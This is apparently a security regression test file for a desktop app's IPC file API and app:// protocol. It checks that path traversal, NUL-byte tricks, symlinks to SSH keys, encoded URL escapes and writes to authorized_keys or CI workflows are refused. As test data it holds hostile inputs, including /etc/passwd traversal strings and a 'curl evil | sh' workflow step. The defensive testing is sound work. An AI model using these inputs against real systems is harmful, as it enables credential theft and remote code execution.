// Exploit regressions for every way the page can name a file: workspace.read/write/browse/
// validate over IPC from our own (possibly compromised) page, and app:// URLs. Only absolute
// .yaml/.yml regular files (not links to other files) are ever read or written.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync, existsSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { channelOf } from '../../../shared/api/channels';
import type { MethodName } from '../../../shared/api/contract';
import { bindIpc } from '../../../main/app/ipc';
import { APP_ORIGIN, resolveAppFile, serveAppRequest } from '../../../main/app/protocol';
import { appServices, frames, InMemoryIpcMain, tempDir } from '../../helpers/app-ipc';

type Outcome = { ok: true; result: unknown } | { ok: false; error: { code: string; message: string } };

let tmp: ReturnType<typeof tempDir>;
let ipc: InMemoryIpcMain;
let home: string;
const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-key-material\n-----END OPENSSH PRIVATE KEY-----\n';

const call = (method: MethodName, args: unknown) => ipc.invoke(channelOf(method), frames.app, args) as Promise<Outcome>;

function expectRefused(out: Outcome, pattern?: RegExp) {
  expect(out.ok).toBe(false);
  if (out.ok) return;
  expect(['refused', 'bad-args', 'not-found']).toContain(out.error.code);
  if (pattern) expect(out.error.message).toMatch(pattern);
  expect(JSON.stringify(out)).not.toContain('secret-key-material');
  expect(JSON.stringify(out)).not.toContain('root:x:0:0');
}

beforeAll(() => {
  tmp = tempDir('traversal');
  home = join(tmp.dir, 'home');
  mkdirSync(join(home, '.ssh'), { recursive: true });
  mkdirSync(join(home, 'sites', 'dir.yaml'), { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_rsa'), KEY);
  writeFileSync(join(home, 'sites', 'site.yaml'), 'lbdesk: 1\nname: ok\n');
  writeFileSync(join(home, 'sites', 'notes.txt'), 'not a workspace');
  // YAML that is not a workspace: a CLI's token, a Kubernetes secret.
  mkdirSync(join(home, '.config', 'gh'), { recursive: true });
  writeFileSync(join(home, '.config', 'gh', 'hosts.yml'), 'github.com:\n  oauth_token: gho_secret-key-material\n');
  writeFileSync(join(home, 'sites', 'k8s-secret.yaml'), 'apiVersion: v1\nkind: Secret\ndata:\n  password: c2VjcmV0LWtleS1tYXRlcmlhbA==  # secret-key-material\n');
  // 'lbdesk:' somewhere, but not as the top-level format key.
  writeFileSync(join(home, 'sites', 'compose.yaml'), 'services:\n  lbdesk:\n    image: x\n    environment: { POSTGRES_PASSWORD: secret-key-material }\n');
  writeFileSync(join(home, 'sites', 'block.yaml'), 'notes: |\n  lbdesk: 1\napi_token: secret-key-material\n');
  writeFileSync(join(home, 'sites', 'second-doc.yaml'), 'api_token: secret-key-material\n---\nlbdesk: 1\n');
  symlinkSync(join(home, '.ssh', 'id_rsa'), join(home, 'sites', 'innocent.yaml'));
  symlinkSync(join(home, 'sites', 'site.yaml'), join(home, 'sites', 'alias.yaml'));
  ipc = new InMemoryIpcMain();
  bindIpc(ipc, appServices(join(tmp.dir, 'data')).handlers, APP_ORIGIN);
});
afterAll(() => tmp.cleanup());

describe('workspace.read', () => {
  const cases: [string, () => string][] = [
    ['a relative ../../etc/passwd', () => '../../etc/passwd'],
    ['an absolute /etc/passwd', () => '/etc/passwd'],
    ['a normalised escape to /etc/passwd', () => `${home}/sites/../../../../../../etc/passwd`],
    ['a .yaml name walking out to /etc/passwd', () => `${home}/x.yaml/../../../../../../../etc/passwd`],
    ['a NUL byte before .yaml', () => `/etc/passwd\0.yaml`],
    ['a relative workspace name', () => 'sites/site.yaml'],
    ['a private key', () => join(home, '.ssh', 'id_rsa')],
    ['~ notation', () => '~/.ssh/id_rsa'],
    ['a link named .yaml that points at a key', () => join(home, 'sites', 'innocent.yaml')],
    ['a folder named .yaml', () => join(home, 'sites', 'dir.yaml')],
    ['a file URL', () => `file://${home}/sites/site.yaml`],
    ['YAML that is not a workspace (a CLI token)', () => join(home, '.config', 'gh', 'hosts.yml')],
    ['YAML that is not a workspace (a Kubernetes secret)', () => join(home, 'sites', 'k8s-secret.yaml')],
    ['YAML with lbdesk: only as a nested key', () => join(home, 'sites', 'compose.yaml')],
    ['YAML with lbdesk: only inside a block scalar', () => join(home, 'sites', 'block.yaml')],
    ['YAML with lbdesk: only in a second document', () => join(home, 'sites', 'second-doc.yaml')],
  ];
  for (const [what, path] of cases) {
    it(`refuses ${what}`, async () => expectRefused(await call('workspace.read', { path: path() })));
  }

  it('reads an absolute workspace file, and a link to one', async () => {
    const out = await call('workspace.read', { path: join(home, 'sites', 'site.yaml') });
    expect(out.ok).toBe(true);
    const alias = await call('workspace.read', { path: join(home, 'sites', 'alias.yaml') });
    expect(alias.ok).toBe(true);
  });
});

describe('workspace.write', () => {
  it('refuses to write anything but an absolute .yaml/.yml file', async () => {
    const before = readFileSync(join(home, '.ssh', 'id_rsa'), 'utf8');
    for (const path of [
      join(home, '.ssh', 'id_rsa'),
      join(home, '.ssh', 'authorized_keys'),
      join(home, '.bashrc'),
      '../../tmp/evil.yaml',
      'evil.yaml',
      `${join(home, '.ssh', 'id_rsa')}\0.yaml`,
      join(home, 'sites', 'innocent.yaml'),
      join(home, 'sites', 'dir.yaml'),
    ]) {
      expectRefused(await call('workspace.write', { path, text: 'ssh-ed25519 AAAA attacker' }));
    }
    expect(readFileSync(join(home, '.ssh', 'id_rsa'), 'utf8')).toBe(before);
    expect(existsSync(join(home, '.ssh', 'authorized_keys'))).toBe(false);
    expect(existsSync(join(home, '.bashrc'))).toBe(false);
  });

  it('writes only workspaces, and never over YAML that is not one (a CI workflow, a secret)', async () => {
    const k8s = join(home, 'sites', 'k8s-secret.yaml');
    const before = readFileSync(k8s, 'utf8');
    expectRefused(await call('workspace.write', { path: k8s, text: 'lbdesk: 1\nname: over\n' }), /is not an lbdesk workspace/);
    expect(readFileSync(k8s, 'utf8')).toBe(before);
    const workflow = join(tmp.dir, 'repo', '.github', 'workflows', 'ci.yml');
    mkdirSync(dirname(workflow), { recursive: true });
    // In a hidden folder: refused whatever the text.
    expectRefused(await call('workspace.write', { path: workflow, text: 'lbdesk: 1\non: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n' }), /hidden folder/);
    expect(existsSync(workflow)).toBe(false);
    const plain = join(tmp.dir, 'repo', 'ci.yml');
    expectRefused(await call('workspace.write', { path: plain, text: 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n' }), /is not an lbdesk workspace/);
    // A job named lbdesk is not the format key.
    expectRefused(await call('workspace.write', { path: plain, text: 'on: push\njobs:\n  lbdesk:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo pwned\n' }), /is not an lbdesk workspace/);
    expect(existsSync(plain)).toBe(false);
  });

  it('writes a new absolute workspace file', async () => {
    const path = join(home, 'sites', 'new.yml');
    const out = await call('workspace.write', { path, text: 'lbdesk: 1\nname: new\n' });
    expect(out.ok).toBe(true);
    expect(readFileSync(path, 'utf8')).toBe('lbdesk: 1\nname: new\n');
  });
});

describe('workspace.validate', () => {
  it('never reads a non-workspace file through its path', async () => {
    for (const path of ['/etc/passwd', '../../etc/passwd', join(home, '.ssh', 'id_rsa'), join(home, 'sites', 'innocent.yaml'), `/etc/passwd\0.yml`]) {
      expectRefused(await call('workspace.validate', { path }));
    }
  });
});

describe('calls that take a workspace source (check, lab, appliances)', () => {
  const text = 'lbdesk: 1\nname: ok\n';
  const bad = ['/etc/passwd', '../../etc/passwd', join(home ?? '/h', '.ssh', 'id_rsa'), `/etc/passwd\0.yml`, 'sites/site.yaml'];
  it('never reads a non-workspace file through the path, nor takes one as the path of unsaved text', async () => {
    const paths = [...bad, join(home, '.ssh', 'id_rsa'), join(home, 'sites', 'innocent.yaml')];
    for (const method of ['check.run', 'lab.start', 'lab.apply'] as const) {
      for (const path of paths) expectRefused(await call(method, { path }), undefined);
      // Unsaved text is parsed, but its path still has to be a workspace path.
      for (const path of ['/etc/passwd', 'relative.yaml']) expectRefused(await call(method, { path, text }));
    }
    for (const method of ['appliance.render', 'appliance.pull'] as const) {
      for (const path of paths) expectRefused(await call(method, { path, appliance: 'a' }));
    }
  });
});

describe('workspace.browse', () => {
  it('refuses relative folders and NUL bytes', async () => {
    for (const dir of ['..', '../../etc', '.ssh', 'sites', `${home}\0/x`]) {
      expectRefused(await call('workspace.browse', { dir }));
    }
  });

  it('lists only folders and workspace files, never dotfiles or keys', async () => {
    const out = await call('workspace.browse', { dir: home });
    expect(out.ok).toBe(true);
    const names = (out as { result: { entries: { name: string }[] } }).result.entries.map((e) => e.name);
    expect(names).toEqual(['sites']);
    const sites = (await call('workspace.browse', { dir: join(home, 'sites') })) as { result: { entries: { name: string }[] } };
    expect(sites.result.entries.map((e) => e.name)).not.toContain('notes.txt');
  });
});

describe('app:// protocol', () => {
  let root: string;
  beforeAll(() => {
    root = join(tmp.dir, 'renderer');
    mkdirSync(join(root, 'assets'), { recursive: true });
    writeFileSync(join(root, 'index.html'), '<!doctype html><title>lbdesk</title>');
    writeFileSync(join(root, 'assets', 'app.js'), 'console.log(1)');
    writeFileSync(join(tmp.dir, 'outside.txt'), 'outside');
    symlinkSync(join(tmp.dir, 'outside.txt'), join(root, 'assets', 'link.js'));
    mkdirSync(`${root}-evil`, { recursive: true });
    writeFileSync(join(`${root}-evil`, 'x.js'), 'evil');
  });

  it('serves files of the renderer folder with the CSP header', async () => {
    const page = await serveAppRequest('app://lbdesk/index.html', 'GET', root);
    expect(page.status).toBe(200);
    expect(page.headers['content-security-policy']).toContain("default-src 'self'");
    expect(page.headers['content-security-policy']).toContain("object-src 'none'");
    expect(page.headers['content-type']).toMatch(/^text\/html/);
    const js = await serveAppRequest('app://lbdesk/assets/app.js', 'GET', root);
    expect(js.headers['content-type']).toMatch(/^text\/javascript/);
    expect(String(js.body)).toBe('console.log(1)');
    const route = await serveAppRequest('app://lbdesk/servers/web1', 'GET', root);
    expect(String(route.body)).toContain('<title>lbdesk</title>');
  });

  const escapes = [
    'app://lbdesk/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
    'app://lbdesk/assets/%2e%2e%2f%2e%2e%2foutside.txt',
    'app://lbdesk/..%2f..%2f..%2f..%2fetc%2fpasswd',
    'app://lbdesk/..%5c..%5coutside.txt',
    'app://lbdesk/index.html%00.js',
    'app://lbdesk/%E0%A4%A',
    'app://lbdesk/..%2frenderer-evil/x.js',
    'app://evil/index.html',
    'app://lbdesk:99/index.html',
    'app://user@lbdesk/index.html',
    'file:///etc/passwd',
  ];
  for (const url of escapes) {
    it(`refuses ${url}`, async () => {
      const out = await serveAppRequest(url, 'GET', root);
      // The URL parser itself folds %2e%2e into the path, which then stays inside the folder: such a
      // route gets the app shell. Anything else is an error status.
      if (out.status === 200) expect(String(out.body)).toBe('<!doctype html><title>lbdesk</title>');
      else expect([400, 403, 404]).toContain(out.status);
      expect(String(out.body)).not.toContain('root:x:0:0');
      expect(String(out.body)).not.toMatch(/^outside$|^evil$/);
    });
  }

  it('does not follow a link out of the renderer folder', async () => {
    const out = await serveAppRequest('app://lbdesk/assets/link.js', 'GET', root);
    expect(out.status).toBe(403);
  });

  it('answers only GET and HEAD', async () => {
    expect((await serveAppRequest('app://lbdesk/index.html', 'POST', root)).status).toBe(405);
    const head = await serveAppRequest('app://lbdesk/index.html', 'HEAD', root);
    expect(head.status).toBe(200);
    expect(head.body).toBeUndefined();
  });

  it('resolves the root to index.html', () => {
    expect(resolveAppFile('app://lbdesk/', root)).toEqual({ file: join(root, 'index.html') });
  });
});
